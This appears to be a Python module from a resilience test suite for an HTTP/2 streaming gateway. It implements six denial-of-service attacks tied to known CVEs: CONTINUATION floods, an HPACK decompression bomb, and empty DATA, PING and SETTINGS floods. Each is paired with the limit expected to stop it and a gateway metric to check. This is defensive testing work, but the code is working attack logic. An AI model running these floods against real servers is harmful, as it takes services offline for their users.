"""Attacks with cheap frames: header fragments, empty DATA, PING, SETTINGS."""

import asyncio

import hpack
import wire
from catalogue import Metric, attack
from hyperframe import frame

CHECK = wire.header_block(wire.CHECK)
REFUSED = wire.header_block(wire.ISSUE)
# hpack's index of the newest entry of the dynamic table (RFC 7541, section 2.3.3).
NEWEST_ENTRY = bytes([0x80 | 62])


REJECTED_CONNECTIONS = Metric("ott_gateway_http2_errors_total", {"scope": "connection"})
CONTROL_FRAMES = Metric("ott_gateway_http2_control_frames_total")


@attack(
    "CONTINUATION flood",
    stopped_by="limit on CONTINUATION frames per header block",
    metric=REJECTED_CONNECTIONS,
    rate=10_000,
    unit="frames",
    ends_connections=True,
)
async def endless_continuation(stage):
    """CVE-2024-27316 and similar: a header block that never ends. Half of the connections send empty
    fragments, which no limit on bytes covers."""

    def variant(fragment):
        async def one(connection):
            stream = connection.open_stream()
            await connection.send(frame.HeadersFrame(stream, REFUSED).serialize())
            while True:
                await stage.turn(50)
                await connection.send(wire.raw(wire.CONTINUATION, stream, fragment) * 50)

        return one

    stage.ready()
    fragment = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x", "y" * 200)])
    for_each = {"with headers": fragment, "empty": b""}
    await asyncio.gather(*(stage.on_each(2, variant(fragment), name=name) for name, fragment in for_each.items()))


@attack(
    "CONTINUATION flood with END_HEADERS",
    stopped_by="limit on CONTINUATION frames per header block",
    metric=REJECTED_CONNECTIONS,
    rate=10_000,
    unit="frames",
)
async def ended_continuation(stage):
    """Complete header blocks in many fragments that exceed the size limit of request headers; the next
    request follows on the same connection."""
    fragment = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x", "y" * 2000)])

    async def one(connection):
        while True:
            await stage.turn(20)
            stream = connection.open_stream()
            fragments = wire.raw(wire.CONTINUATION, stream, fragment) * 19
            last = wire.raw(wire.CONTINUATION, stream, b"", flags=wire.END_HEADERS)
            await connection.send(frame.HeadersFrame(stream, REFUSED).serialize(), fragments, last)

    stage.ready()
    await stage.on_each(4, one)


@attack(
    "HPACK bomb",
    stopped_by="limit on the size of request headers during decoding",
    metric=REJECTED_CONNECTIONS,
    rate=200,
    unit="requests",
)
async def hpack_bomb(stage):
    """CVE-2016-6581 and similar: a large header is added to the dynamic table, and each further byte
    repeats it. A frame of 16 KiB expands to 45 MB."""
    encoder = hpack.Encoder()
    large = encoder.encode([("x", "y" * 3900)], huffman=False)
    bomb = wire.header_block(wire.ISSUE) + large + NEWEST_ENTRY * (16_000 - len(large) - len(REFUSED))

    async def one(connection):
        while True:
            await stage.turn()
            await connection.send(wire.headers(connection.open_stream(), bomb, "END_STREAM"))

    stage.ready()
    await stage.on_each(4, one)


@attack(
    "empty DATA flood",
    stopped_by="limit on empty DATA frames",
    metric=REJECTED_CONNECTIONS,
    rate=20_000,
    unit="frames",
    ends_connections=True,
)
async def empty_data(stage):
    """CVE-2019-9518: DATA frames without payload or END_STREAM, which flow control does not
    count."""

    async def one(connection):
        stream = connection.open_stream()
        await connection.send(wire.headers(stream, CHECK))
        while True:
            await stage.turn(100)
            await connection.send(wire.data(stream) * 100)

    stage.ready()
    await stage.on_each(4, one)


@attack(
    "PING flood",
    stopped_by="reading stops until the last acknowledgement has been sent",
    metric=CONTROL_FRAMES,
    rate=20_000,
    unit="frames",
)
async def ping_flood(stage):
    """CVE-2019-9512: each PING requires an acknowledgement. Half of the connections never read it."""

    async def one(connection):
        while True:
            await stage.turn(100)
            await connection.send(wire.raw(wire.PING, 0, b"attacker") * 100)

    stage.ready()
    await asyncio.gather(*(stage.on_each(2, one, reads=reads) for reads in (True, False)))


@attack(
    "SETTINGS flood",
    stopped_by="reading stops until the last acknowledgement has been sent",
    metric=CONTROL_FRAMES,
    rate=20_000,
    unit="frames",
)
async def settings_flood(stage):
    """CVE-2019-9515: each SETTINGS requires an acknowledgement. Half of the connections never
    read it."""

    async def one(connection):
        while True:
            await stage.turn(100)
            await connection.send(wire.settings({wire.INITIAL_WINDOW_SIZE: 65_535}) * 100)

    stage.ready()
    await asyncio.gather(*(stage.on_each(2, one, reads=reads) for reads in (True, False)))

